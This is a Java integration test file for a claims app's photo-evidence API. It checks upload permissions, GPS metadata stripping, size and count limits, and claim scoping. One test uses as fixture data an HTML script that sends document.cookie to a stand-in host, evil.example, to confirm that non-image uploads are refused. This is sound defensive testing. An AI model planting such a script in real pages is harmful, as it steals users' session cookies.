package io.claimpilot.photo;

import io.claimpilot.support.Db;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import org.junit.jupiter.api.Test;

import javax.imageio.ImageIO;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import static io.claimpilot.photo.PhotoFixtures.GPS_RATIONALS;
import static io.claimpilot.photo.PhotoFixtures.contains;
import static io.claimpilot.support.Api.ADMIN;
import static io.claimpilot.support.Api.AGENT;
import static io.claimpilot.support.Api.ANALYST;
import static io.claimpilot.support.Api.ACCOUNTANT;
import static io.claimpilot.support.Api.SHOP;
import static io.claimpilot.support.Api.as;
import static io.claimpilot.support.Api.claim;
import static io.claimpilot.support.Api.uniqueId;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.notNullValue;
import static org.hamcrest.Matchers.startsWith;

/** Photos and evidence links by API: who may add them, what is refused, what is stored, and the claim decided again. */
@QuarkusTest
class PhotoEvidenceApiTest {

    @Inject
    Db db;
    @Inject
    ClaimPhotos photos;

    /**
     * A delivered, damaged product in stock, without a photo: the default policy asks for one and waits
     * (AWAITING_EVIDENCE); with a photo it reships.
     */
    static String damagedClaimWaitingForAPhoto() {
        String sku = uniqueId("SKU");
        as(ADMIN).body(Map.of("available", 3)).put("/api/stock/" + sku).then().statusCode(200);
        return as(SHOP).body(claim("DAMAGED", "30.00").fulfillment("DELIVERED").item(sku, 1, "30.00").map())
                .post("/api/claims").then().statusCode(201).body("status", equalTo("AWAITING_EVIDENCE")).extract().path("id");
    }

    private static Response upload(String key, String claimId, String fileName, byte[] content, String declaredType) {
        return given().header("Authorization", "Bearer " + key).multiPart("photo", fileName, content, declaredType)
                .post("/api/claims/" + claimId + "/photos");
    }

    @Test
    void aShopsUploadedPhotoIsStoredWithoutItsPositionAndDecidesTheWaitingClaim() throws IOException {
        String id = damagedClaimWaitingForAPhoto();

        Response answer = upload(SHOP, id, "IMG_0001.JPG", PhotoFixtures.jpegWithGps(), "image/jpeg");

        answer.then().statusCode(200)
                .body("status", equalTo("RESHIP_APPROVED"))
                .body("decision.rulesFired", equalTo(List.of("Damaged with a photo, up to the cap, in stock: reship")))
                .body("facts.hasPhoto", equalTo(true))
                .body("evidence[0].type", equalTo("PHOTO"))
                .body("evidence[0].photoId", startsWith("ph_"));
        String photoId = answer.path("evidence[0].photoId");
        List<Map<String, Object>> audit = answer.path("audit");
        assertThat(audit).anySatisfy(row -> {
            assertThat(row).containsEntry("actor", "demo-shop").containsEntry("from", "AWAITING_EVIDENCE").containsEntry("to", "AWAITING_EVIDENCE");
            assertThat((String) row.get("reason")).startsWith("Evidence added: PHOTO (image/jpeg");
        });

        byte[] stored = QuarkusTransaction.requiringNew().call(() -> photos.content(id, photoId).bytes());
        assertThat(contains(stored, GPS_RATIONALS)).isFalse();
        assertThat(db.strings("select added_by || ' ' || content_type || ' ' || size_bytes from claim_photo where id = ?1", photoId))
                .containsExactly("demo-shop image/jpeg " + stored.length);

        Response served = given().header("Authorization", "Bearer " + SHOP).get("/api/claims/" + id + "/photos/" + photoId);
        served.then().statusCode(200)
                .contentType("image/jpeg")
                .header("X-Content-Type-Options", "nosniff")
                .header("Content-Disposition", "inline");
        assertThat(served.asByteArray()).isEqualTo(stored);
        assertThat(ImageIO.read(new ByteArrayInputStream(served.asByteArray())).getWidth()).isEqualTo(32);
    }

    @Test
    void aHeicPhotoIsStoredWithItsExifBlankedAndServedAsHeic() {
        String id = damagedClaimWaitingForAPhoto();
        byte[] sent = PhotoFixtures.heicWithGps();

        Response answer = upload(SHOP, id, "IMG_0003.jpg", sent, "application/octet-stream");

        answer.then().statusCode(200).body("status", equalTo("RESHIP_APPROVED"));
        String photoId = answer.path("evidence[0].photoId");
        Response served = given().header("Authorization", "Bearer " + AGENT).get("/api/claims/" + id + "/photos/" + photoId);
        served.then().statusCode(200).contentType("image/heic");
        byte[] stored = served.asByteArray();
        assertThat(stored).hasSameSizeAs(sent);
        assertThat(contains(stored, GPS_RATIONALS)).isFalse();
        assertThat(contains(stored, PhotoFixtures.XMP_GPS)).isFalse();
        assertThat(contains(stored, PhotoFixtures.HEVC_PAYLOAD)).isTrue();
    }

    @Test
    void anAgentAddsAPhotoLinkOrAFileAndTheAuditNamesThem() {
        String id = damagedClaimWaitingForAPhoto();

        as(AGENT).body(Map.of("type", "PHOTO", "url", "https://helpdesk.example/attachments/broken-mug.jpg"))
                .post("/api/claims/" + id + "/evidence").then().statusCode(200)
                .body("status", equalTo("RESHIP_APPROVED"));
        upload(AGENT, id, "mug.png", PhotoFixtures.pngWithGps(), "image/png").then().statusCode(200)
                .body("evidence[1].photoId", notNullValue());

        assertThat(db.strings("select actor || ': ' || reason from claim_audit where claim_id = ?1 and reason like 'Evidence added%' order by id", id))
                .containsExactly("agent: Evidence added: PHOTO (link)",
                        db.strings("select 'agent: Evidence added: PHOTO (image/png, ' || size_bytes || ' bytes, ' || id || ')'"
                                + " from claim_photo where claim_id = ?1", id).get(0));
        assertThat(db.strings("select added_by from evidence where claim_id = ?1 order by id", id)).containsExactly("agent", "agent");
    }

    @Test
    void onlyTheShopAndAgentsMayAddEvidenceOrSeePhotos() {
        String id = damagedClaimWaitingForAPhoto();
        for (String key : List.of(ANALYST, ACCOUNTANT, ADMIN)) {
            upload(key, id, "a.jpg", PhotoFixtures.jpegWithGps(), "image/jpeg").then().statusCode(403);
            as(key).body(Map.of("type", "PHOTO", "url", "https://shop.example/a.jpg")).post("/api/claims/" + id + "/evidence")
                    .then().statusCode(403);
            given().header("Authorization", "Bearer " + key).get("/api/claims/" + id + "/photos/ph_none").then().statusCode(403);
        }
        given().multiPart("photo", "a.jpg", PhotoFixtures.jpegWithGps(), "image/jpeg").post("/api/claims/" + id + "/photos")
                .then().statusCode(401);
        given().get("/api/claims/" + id + "/photos/ph_none").then().statusCode(401);
        assertThat(db.count("select count(*) from evidence where claim_id = ?1", id)).isZero();
    }

    @Test
    void aFileThatIsNotAnImageIsRefusedWhateverItsNameAndDeclaredType() {
        String id = damagedClaimWaitingForAPhoto();
        byte[] page = "<html><body><script>document.location='https://evil.example/?'+document.cookie</script>"
                .getBytes(StandardCharsets.UTF_8);

        upload(SHOP, id, "broken-mug.jpg", page, "image/jpeg").then().statusCode(415)
                .contentType("application/problem+json")
                .body("violations[0].field", equalTo("photo"))
                .body("violations[0].message", startsWith("is not a JPEG, PNG, WebP or HEIC image"));
        byte[] exifInIdat = PhotoFixtures.heic(new PhotoFixtures.HeicLayout(1, 1, -1, false));
        upload(SHOP, id, "IMG_0002.HEIC", exifInIdat, "image/heic").then().statusCode(415)
                .body("violations[0].field", equalTo("photo"))
                .body("violations[0].message", containsString("send it as JPEG"));

        assertThat(db.count("select count(*) from claim_photo where claim_id = ?1", id)).isZero();
        assertThat(db.count("select count(*) from evidence where claim_id = ?1", id)).isZero();
        as(SHOP).get("/api/claims/" + id).then().body("status", equalTo("AWAITING_EVIDENCE"));
    }

    @Test
    void aPhotoOverTheSizeLimitIsRefusedBeforeItIsRead() {
        String id = damagedClaimWaitingForAPhoto();
        byte[] tooBig = new byte[10 * 1024 * 1024 + 1];
        System.arraycopy(PhotoFixtures.jpegWithGps(), 0, tooBig, 0, 100);

        upload(SHOP, id, "huge.jpg", tooBig, "image/jpeg").then().statusCode(413)
                .contentType("application/problem+json")
                .body("violations[0].field", equalTo("photo"))
                .body("violations[0].message", equalTo("is 10485761 bytes; a photo may be at most 10485760 bytes (10 MiB)"));
        assertThat(db.count("select count(*) from claim_photo where claim_id = ?1", id)).isZero();
    }

    @Test
    void aClaimTakesFivePhotosAndRefusesTheSixth() {
        String id = damagedClaimWaitingForAPhoto();
        byte[] photo = PhotoFixtures.encode(PhotoFixtures.picture(8, 8), "png");
        for (int i = 0; i < 5; i++) {
            upload(i % 2 == 0 ? SHOP : AGENT, id, "p" + i + ".png", photo, "image/png").then().statusCode(200);
        }

        upload(SHOP, id, "p5.png", photo, "image/png").then().statusCode(409)
                .contentType("application/problem+json")
                .body("violations[0].field", equalTo("photo"))
                .body("violations[0].message", equalTo("the claim already has 5 photos, the most it may have"));
        assertThat(db.count("select count(*) from claim_photo where claim_id = ?1", id)).isEqualTo(5);
        assertThat(db.count("select count(*) from evidence where claim_id = ?1", id)).isEqualTo(5);
    }

    @Test
    void aPhotoIsServedOnlyUnderItsOwnClaim() {
        String first = damagedClaimWaitingForAPhoto();
        String second = damagedClaimWaitingForAPhoto();
        String photoId = upload(SHOP, first, "a.png", PhotoFixtures.pngWithGps(), "image/png").then().statusCode(200)
                .extract().path("evidence[0].photoId");

        given().header("Authorization", "Bearer " + AGENT).get("/api/claims/" + second + "/photos/" + photoId).then()
                .statusCode(404).contentType("application/problem+json");
        given().header("Authorization", "Bearer " + AGENT).get("/api/claims/cl_none/photos/" + photoId).then().statusCode(404);
        upload(SHOP, "cl_none", "a.png", PhotoFixtures.pngWithGps(), "image/png").then().statusCode(404);
        given().header("Authorization", "Bearer " + AGENT).get("/api/claims/" + first + "/photos/" + photoId).then()
                .statusCode(200).contentType("image/png");
    }

    @Test
    void aRequestWithoutAPhotoPartOrWithTwoIsRefused() {
        String id = damagedClaimWaitingForAPhoto();
        given().header("Authorization", "Bearer " + SHOP).multiPart("picture", "a.png", PhotoFixtures.pngWithGps(), "image/png")
                .post("/api/claims/" + id + "/photos").then().statusCode(400)
                .body("violations[0].field", equalTo("photo"));
        given().header("Authorization", "Bearer " + SHOP)
                .multiPart("photo", "a.png", PhotoFixtures.pngWithGps(), "image/png")
                .multiPart("photo", "b.png", PhotoFixtures.pngWithGps(), "image/png")
                .post("/api/claims/" + id + "/photos").then().statusCode(400)
                .body("violations[0].field", equalTo("photo"));
        assertThat(db.count("select count(*) from claim_photo where claim_id = ?1", id)).isZero();
    }

    /** A photo shows a home, a face, a parcel's label: erasing the customer deletes it; the evidence keeps its type. */
    @Test
    void erasingTheCustomerDeletesTheirPhotos() {
        String id = damagedClaimWaitingForAPhoto();
        String photoId = upload(SHOP, id, "a.png", PhotoFixtures.pngWithGps(), "image/png").then().statusCode(200)
                .extract().path("evidence[0].photoId");
        String customer = as(AGENT).get("/api/claims/" + id).path("customer.id");

        as(ADMIN).post("/api/customers/" + customer + "/erase").then().statusCode(200);

        assertThat(db.count("select count(*) from claim_photo where claim_id = ?1", id)).isZero();
        assertThat(db.strings("select type || ' ' || coalesce(photo_id, '-') from evidence where claim_id = ?1", id))
                .containsExactly("PHOTO -");
        given().header("Authorization", "Bearer " + AGENT).get("/api/claims/" + id + "/photos/" + photoId).then().statusCode(404);
    }
}
